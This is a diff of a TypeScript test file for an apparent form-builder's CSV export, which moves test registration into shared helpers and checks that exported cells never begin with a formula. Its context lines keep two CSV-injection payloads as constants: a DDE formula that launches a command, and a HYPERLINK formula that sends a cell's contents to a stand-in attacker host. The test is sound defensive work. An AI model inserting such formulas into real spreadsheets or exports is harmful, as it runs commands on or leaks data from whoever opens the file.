@@ -1,6 +1,6 @@
-import test from 'ava';
+import test from '../helpers/bounded-test';
 import { makeResponse } from '@formloom/core/testing';
-import { forEachDb } from './helpers/app';
+import type { SharedDb } from '../helpers/shared-apps';
 
 const CMD = "=cmd|' /C calc'!A0";
 const LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
@@ -25,7 +25,8 @@ function cells(csv: string): string[][] {
   return rows;
 }
 
-forEachDb(test, (it) => {
+/** exports.test.ts registers these on the apps its parts share (helpers/shared-apps.ts). */
+export const register = (forEachDb: SharedDb) => forEachDb((it) => {
   it('CSV export: choice lists, "other" answers, file URLs and sub-fields never start a cell with a formula', async (t, app) => {
     const u = await app.user();
     const created = await app.api('POST', '/forms', {
